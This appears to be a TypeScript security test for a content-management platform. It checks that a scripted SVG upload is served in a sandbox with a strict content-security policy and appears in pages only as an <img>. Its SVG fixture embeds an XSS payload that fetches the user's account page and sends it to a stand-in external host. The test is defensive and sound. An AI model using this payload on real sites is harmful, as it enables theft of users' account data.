import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { HttpSession } from "../../../../tests/support/http.ts";
import { httpSessionOn, signInOverHttp } from "../../../../tests/support/http-sign-in.ts";
import { startTestPlatform, type TestPlatform } from "../../../../tests/support/test-platform.ts";

/** An SVG that runs script as soon as it is opened as a document: a `<script>` and an `onload` handler. */
const scriptedSvg = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert('svg-onload')">
  <script>alert('svg-script'); fetch('/compte').then((r) => r.text()).then((t) => fetch('https://exemple.invalid/?' + t));</script>
  <rect width="10" height="10" fill="#000091"/>
</svg>
`;

describe("a scripted SVG uploaded in the editor", () => {
  let platform: TestPlatform;
  let team: HttpSession;

  before(async () => {
    platform = await startTestPlatform();
    team = await signInOverHttp(platform, "camille.martin@numerique.gouv.fr");
  });
  after(() => platform.stop());

  it("is served from /medias/ as an image in a sandbox of its own (CSP sandbox, default-src 'none', nosniff), and shown in pages only as an <img>", async () => {
    const fields = { kind: "news", title: "", slug: "", summary: "", body: "", tags: "", date: "", status: "draft", publishAt: "", coverImageAlt: "", action: "insert-image", insertImageAlt: "Un carré bleu" };
    const inserted = await team.postMultipart("/admin/contenus", fields, { insertImage: { fileName: "carre.svg", bytes: scriptedSvg, type: "image/svg+xml" } }, { formPage: "/admin/contenus/nouveau?type=news" });
    assert.equal(inserted.statusCode, 200, inserted.body.slice(0, 1000));
    const address = /\((\/medias\/[a-f0-9]{12}\/carre\.svg)\)/.exec(inserted.body)?.[1];
    assert.ok(address, "the Markdown of the inserted image is shown");

    const served = await httpSessionOn(platform).get(address);
    assert.equal(served.statusCode, 200);
    assert.equal(served.headers["content-type"], "image/svg+xml");
    assert.equal(served.headers["x-content-type-options"], "nosniff");
    const policy = String(served.headers["content-security-policy"]).split(";").map((directive) => directive.trim());
    assert.ok(policy.includes("sandbox"), `sandbox without allow-scripts: ${policy.join("; ")}`);
    assert.ok(policy.includes("default-src 'none'"), policy.join("; "));
    assert.ok(!policy.some((directive) => /^script-src|allow-scripts|unsafe-eval/.test(directive)), policy.join("; "));
    assert.equal(served.body, scriptedSvg, "served as uploaded, never rewritten into something else");

    const published = await team.post("/admin/contenus", { ...fields, title: "Un carré scripté", action: "save", status: "published", body: `Voici ![Un carré bleu](${address}).` }, { formPage: "/admin/contenus/nouveau?type=news" });
    assert.equal(published.statusCode, 303, published.body.slice(0, 2000));
    const page = await httpSessionOn(platform).get("/actualites/un-carre-scripte");
    assert.equal(page.statusCode, 200);
    assert.ok(page.body.includes(`<img src="${address}" alt="Un carré bleu"`), "the SVG is an <img>, where it never runs script");
    assert.doesNotMatch(page.body, /svg-onload|svg-script|exemple\.invalid|<svg[^>]*onload/);
  });
});
